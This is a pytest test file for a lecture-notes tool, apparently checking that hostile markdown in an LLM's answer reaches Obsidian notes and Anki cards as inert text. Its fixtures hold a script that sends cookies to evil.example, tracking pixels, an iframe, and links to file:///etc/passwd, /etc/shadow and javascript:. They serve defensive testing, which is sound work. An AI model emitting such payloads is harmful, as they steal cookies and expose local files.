"""An LLM's answer is data: what a prompt injection makes it write reaches the vault as text, never as a command."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt

from tests.test_llm_generator import generator_for, lecture
from tubenotes.vault.deck import LectureCards, build_notes
from tubenotes.generate.safe_markdown import safe_markdown
from tubenotes.testing.fake_llm import Behavior, FakeLlmServer
from tubenotes.vault.cards import Card

HOSTILE_NOTES = """## Summary

Entropy always grows in an isolated system, as the lecture shows with a gas in a box and a piston.
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<iframe src="https://evil.example/"></iframe>

---
title: Pwned
source: file:///etc/passwd
---

Read [the notes](file:///etc/passwd), click [here](javascript:alert(1)), see <file:///etc/shadow>,
![diagram](https://tracker.example/diagram.png), [watch](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=30s)
and [[Entropy]]. The \x00hidden\u202e text ends here with the key idea of the second law.
"""


@pytest.fixture
def fake() -> Iterator[FakeLlmServer]:
    with FakeLlmServer(hang_seconds=3) as server:
        yield server


def links_and_html(markdown: str) -> tuple[list[str], list[str], list[str]]:
    """Link targets, image sources and raw HTML as a CommonMark reader (Obsidian's kind) sees them."""
    links, images, html = [], [], []
    reader = MarkdownIt("commonmark")
    reader.validateLink = lambda url: True  # markdown-it drops file: and javascript: links; Obsidian need not
    for token in reader.parse(markdown):
        if token.type.startswith("html"):
            html.append(token.content)
        for child in token.children or []:
            if child.type == "link_open":
                links.append(str(child.attrs["href"]))
            elif child.type == "image":
                images.append(str(child.attrs["src"]))
            elif child.type.startswith("html"):
                html.append(child.content)
    return links, images, html


def test_hostile_markdown_in_an_answer_reaches_the_notes_as_text(fake: FakeLlmServer) -> None:
    fake.script(Behavior("text", text=HOSTILE_NOTES))
    notes = generator_for(fake).generate_notes(lecture(minutes=2, chapters=False)).text
    links, images, raw = links_and_html(notes)
    assert raw == [] and images == []
    assert links == ["https://tracker.example/diagram.png",
                     "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=30s"]
    assert "\n---\ntitle" not in notes and "\x00" not in notes and "\u202e" not in notes
    for words in ("Entropy always grows", "the notes", "here", "<script>", "diagram", "[[Entropy]]", "second law"):
        assert words in html.unescape(notes)  # every word is still there, shown as text


def test_an_assessment_that_smuggles_html_and_links_is_text(fake: FakeLlmServer) -> None:
    question = {"kind": "multiple_choice", "question": "Which <img src=https://t.example/p.gif> grows?",
                "options": ["[Entropy](javascript:alert(1))", "Energy", "Volume"],
                "answer": "A", "explanation": "See <a href='file:///etc/passwd'>the proof</a>.",
                "timestamp_seconds": 10}
    fake.script(Behavior("text", text=json.dumps({"questions": [question]})))
    assessment = generator_for(fake).generate_assessment(lecture(minutes=2, chapters=False)).text
    links, images, raw = links_and_html(assessment)
    assert raw == [] and images == [] and all(link.startswith("https://www.youtube.com/") for link in links)
    assert "the proof" in assessment and "Entropy" in assessment


def test_safe_markdown_keeps_ordinary_notes_as_they_are() -> None:
    notes = ("## Key ideas\n\n- **Entropy** $S = k \\ln W$ and $$\\Delta S \\geq 0$$ with `x < y` in code\n"
             "- [[Second law|the second law]] at [02:10](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=130s)\n\n"
             "> [!tip] Remember\n> Heat flows from hot to cold.\n\n```python\nif a < b: print('<ok>')\n```\n")
    assert safe_markdown(notes) == notes


def test_an_escaped_answer_reads_as_its_characters_on_an_anki_card() -> None:
    card = Card(question=safe_markdown("Is x<y when <script> runs?"), answer=safe_markdown("[No](file:///x)"))
    [note] = build_notes([LectureCards("vid", "Lecture", [card])], "tag")
    assert note.fields[0] == "Is x&lt;y when &lt;script&gt; runs?"  # shown as "x<y" and "<script>", not "&lt;"
    assert note.fields[1] == "[No](file:///x)"
